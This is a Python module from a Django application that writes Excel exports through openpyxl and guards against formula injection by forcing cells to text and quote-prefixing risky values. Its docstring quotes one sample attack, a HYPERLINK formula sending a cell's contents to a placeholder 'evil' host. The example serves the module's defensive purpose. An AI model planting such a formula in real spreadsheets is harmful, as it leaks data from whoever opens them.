"""Excel workbooks: every export and template of Anquan is built and written through this module.

A cell holding text a user typed can be turned against whoever opens the file (OWASP "CSV/formula
injection"): an enterprise named ``=HYPERLINK("http://evil…?leak="&A1,"点击查看")`` would become a live
formula. So every row goes through `append_row`, which
- writes every string as an explicit string cell (``t="inlineStr"``), never a formula; a string that
  starts with a formula character (``= + - @``, tab, carriage return) also gets Excel's "quote prefix"
  style, so Excel and LibreOffice show it as text and keep it text when the cell is edited (the
  equivalent of OWASP's leading apostrophe, without changing the value a re-import reads back);
- drops characters a workbook cannot hold (control characters, lone surrogates: textclean's
  ``strip_for_export``) — the second line of defence after input cleaning, so one stray character in
  old data never makes an export fail;
- cuts text at Excel's limit of 32,767 characters per cell.
Numbers, dates and booleans are written as they are.
"""

import io
import urllib.parse

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell

from .textclean import strip_for_export

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EXCEL_CELL_MAX = 32_767


def export_workbook() -> Workbook:
    """A new streaming (write-only) workbook for an export; add sheets with `add_sheet`."""
    return Workbook(write_only=True)


def template_workbook() -> Workbook:
    """A new ordinary workbook (styles, data validation) for an import template."""
    return Workbook()


def safe_cell(ws, value) -> Cell:
    """`value` as a cell of `ws` that can never be a formula (see the module's docstring)."""
    if isinstance(value, str):
        text = strip_for_export(value)[:EXCEL_CELL_MAX]
        cell = Cell(ws, row=1, column=1, value=text)  # append() sets the real place
        cell.data_type = "s"  # openpyxl would make a formula of a string starting with "="
        if text.startswith(FORMULA_START):
            cell.quotePrefix = True
        return cell
    return Cell(ws, row=1, column=1, value=value)


def append_row(ws, values) -> None:
    """Append `values` to worksheet `ws` (write-only or not), each through `safe_cell`."""
    ws.append([safe_cell(ws, value) for value in values])


class Sheet:
    """A worksheet whose only way in is `append_row`."""

    def __init__(self, worksheet):
        self.worksheet = worksheet

    def append(self, values) -> None:
        append_row(self.worksheet, values)


def add_sheet(workbook: Workbook, title: str) -> Sheet:
    return Sheet(workbook.create_sheet(title))


def xlsx_response(workbook, filename: str) -> HttpResponse:
    """`workbook` (openpyxl, also write-only) saved into an attachment named `filename` (ASCII)."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{urllib.parse.quote(filename)}"
    response["X-Content-Type-Options"] = "nosniff"
    return response
